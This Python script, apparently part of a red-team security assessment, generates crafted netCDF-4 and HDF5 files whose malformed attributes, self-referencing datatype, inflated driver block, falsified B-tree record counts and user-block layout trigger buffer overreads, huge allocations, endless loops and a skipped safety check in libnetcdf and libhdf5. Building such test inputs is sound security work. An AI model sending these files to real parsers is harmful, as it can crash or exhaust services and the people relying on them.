"""netCDF-4 files whose hidden attributes have a shape libnetcdf and libhdf5 do not
expect, and other structures they take on trust (red team s34), made with
netCDF4-python and h5py, then edited or patched.

Usage: hidden_attributes.py KIND OUT [BASE]

KIND is one of
  ncproperties     the root's _NCProperties made 2,000 fixed strings (libnetcdf reads it
                   into one string's buffer: RH1);
  dimid-many       x's _Netcdf4Dimid made 2,000 integers (read into one int: RH1);
  dimid-large      x's _Netcdf4Dimid made 200,000,000 (libnetcdf grows a table to it,
                   1.6 GB: RH2);
  coordinates      a 2-D coordinate variable's _Netcdf4Coordinates made 2 opaque values
                   of 2,000 bytes (read with the file's type into two ints: RH1);
  quantize         w's _QuantizeBitGroomNumberOfSignificantDigits made 200 integers (RH1);
  class-many       the scale x's CLASS made 2,000 fixed strings (libhdf5's H5DSis_scale
                   reads it into one string's buffer: RH3);
  name-many        the dimension-only dataset y's NAME made 2,000 fixed strings (nctools'
                   own check read it into one string's buffer: RH4);
  attribute-type   a committed type T and a root attribute of type T; T unlinked, and its
                   own datatype message made shared, naming T's header (libhdf5 follows
                   it for ever: RH7);
  driver-block     an h5py file given a version 0 driver information block stating
                   0x60000000 bytes (libhdf5 keeps an image that long: RH11);
  link-index       h5py (libver latest): a group /g of 12 datasets whose links are dense
                   (creation order tracked), its name index stating 20,000,000 records
                   (libhdf5 sorts a table of that many, 12 filled: RH12);
  attribute-index  the same for the 12 dense attributes of a dataset /v;
  user-block       BASE (a version 0 superblock at 0) behind a 512-byte user block, its
                   base address 512, its end of file word the whole file's length, as
                   libhdf5 writes it (the walk before HDF5's open compared the word plus
                   the user block with the length, and skipped the file: RH10).
"""

import struct
import sys

import numpy as np

kind, out = sys.argv[1], sys.argv[2]


def netcdf(path, coordinate_2d=False, dimension_only=False):
    import netCDF4

    ds = netCDF4.Dataset(path, "w")
    ds.createDimension("x", 3)
    ds.createDimension("y", 2)
    if coordinate_2d:
        ds.createVariable("x", "i4", ("x", "y"))[:] = 1
    else:
        ds.createVariable("x", "i4", ("x",))[:] = [1, 2, 3]
    ds.createVariable("w", "f4", ("x", "y"))[:] = 2
    if dimension_only:
        # y is a dimension without a variable; this variable is kept as _nc4_non_coord_y.
        ds.createVariable("y", "i4", ("x",))[:] = 5
    ds.close()


def fixed_strings(obj, name, size, text, count):
    import h5py

    tid = h5py.h5t.C_S1.copy()
    tid.set_size(size)
    tid.set_strpad(h5py.h5t.STR_NULLTERM)
    if name in obj.attrs:
        del obj.attrs[name]
    space = h5py.h5s.create_simple((count,))
    attribute = h5py.h5a.create(obj.id, name.encode(), tid, space)
    attribute.write(np.array([text] * count, dtype="S%d" % size), mtype=tid)


def replace(obj, name, values):
    del obj.attrs[name]
    obj.attrs.create(name, values)


if kind in ("ncproperties", "dimid-many", "dimid-large", "coordinates", "quantize",
            "class-many", "name-many"):
    import h5py

    netcdf(out, coordinate_2d=kind == "coordinates", dimension_only=kind == "name-many")
    with h5py.File(out, "r+") as f:
        if kind == "ncproperties":
            replace(f, "_NCProperties", np.array([b"A" * 10] * 2000, dtype="S10"))
        elif kind == "dimid-many":
            replace(f["x"], "_Netcdf4Dimid", np.zeros(2000, dtype="i4"))
        elif kind == "dimid-large":
            replace(f["x"], "_Netcdf4Dimid", np.int32(200_000_000))
        elif kind == "coordinates":
            opaque = h5py.opaque_dtype(np.dtype(("V", 2000)))
            replace(f["x"], "_Netcdf4Coordinates", np.zeros(2, dtype=opaque))
        elif kind == "quantize":
            f["w"].attrs.create(
                "_QuantizeBitGroomNumberOfSignificantDigits", np.full(200, 3, dtype="i4")
            )
        elif kind == "class-many":
            fixed_strings(f["x"], "CLASS", 16, b"DIMENSION_SCALE", 2000)
        else:
            fixed_strings(
                f["y"], "NAME", 60,
                b"This is a netCDF dimension but not a netCDF variable", 2000,
            )
elif kind == "attribute-type":
    import h5py

    with h5py.File(out, "w", libver="earliest") as f:
        f["T"] = np.dtype("<i4")
        f.create_dataset("x", data=np.arange(3, dtype="i4"))
        f.attrs.create("a", np.int32(7), dtype=f["T"])
        address = h5py.h5o.get_info(f["T"].id).addr
        del f["T"]
    data = bytearray(open(out, "rb").read())
    messages = struct.unpack("<H", data[address + 2 : address + 4])[0]
    at = address + 16
    for _ in range(messages):
        kind_of, size, _flags = struct.unpack("<HHB", data[at : at + 5])
        if kind_of == 3:
            data[at + 4] = 2
            body = bytes([2, 0]) + struct.pack("<Q", address)
            data[at + 8 : at + 8 + size] = body + bytes(size - len(body))
            break
        at += 8 + size
    open(out, "wb").write(data)
elif kind == "driver-block":
    import h5py

    with h5py.File(out, "w", libver="earliest") as f:
        f.create_dataset("x", data=np.arange(3, dtype="i4"))
    data = bytearray(open(out, "rb").read())
    at = (len(data) + 7) // 8 * 8
    data += bytes(at - len(data))
    data += bytes([0, 0, 0, 0]) + struct.pack("<I", 0x60000000) + b"NCSAxxxx"
    struct.pack_into("<Q", data, 48, at)
    struct.pack_into("<Q", data, 40, len(data))
    open(out, "wb").write(data)
elif kind in ("link-index", "attribute-index"):
    import ctypes
    import glob
    import os

    import h5py

    library = ctypes.CDLL(
        glob.glob(os.path.join(os.path.dirname(h5py.__file__), "..", "h5py.libs", "libhdf5-*.so*"))[0]
    )
    library.H5_checksum_lookup3.restype = ctypes.c_uint32

    def lookup3(data):
        return library.H5_checksum_lookup3(
            ctypes.c_char_p(bytes(data)), ctypes.c_size_t(len(data)), ctypes.c_uint32(0)
        )

    with h5py.File(out, "w", libver="latest") as f:
        if kind == "link-index":
            gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
            gcpl.set_link_creation_order(h5py.h5p.CRT_ORDER_TRACKED)
            h5py.h5g.create(f.id, b"g", gcpl=gcpl)
            for i in range(12):
                f["g"].create_dataset("v%02d" % i, data=np.arange(3, dtype="i4"))
        else:
            dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
            dcpl.set_attr_creation_order(h5py.h5p.CRT_ORDER_TRACKED)
            space = h5py.h5s.create_simple((3,))
            h5py.h5d.create(f.id, b"v", h5py.h5t.STD_I32LE, space, dcpl=dcpl)
            for i in range(12):
                f["v"].attrs["a%02d" % i] = np.int32(i)
    data = bytearray(open(out, "rb").read())
    at = data.find(b"BTHD")
    assert at >= 0, "no version 2 B-tree"
    while at >= 0:
        # The total number of records, then the header's checksum.
        struct.pack_into("<Q", data, at + 26, 20_000_000)
        struct.pack_into("<I", data, at + 34, lookup3(data[at : at + 34]))
        at = data.find(b"BTHD", at + 4)
    open(out, "wb").write(data)
elif kind == "user-block":
    data = bytearray(open(sys.argv[3], "rb").read())
    at = 24 if data[8] == 0 else 28
    struct.pack_into("<Q", data, at, 512)
    struct.pack_into("<Q", data, at + 16, 512 + len(data))
    open(out, "wb").write(bytes(512) + data)
else:
    sys.exit(f"unknown kind {kind}")
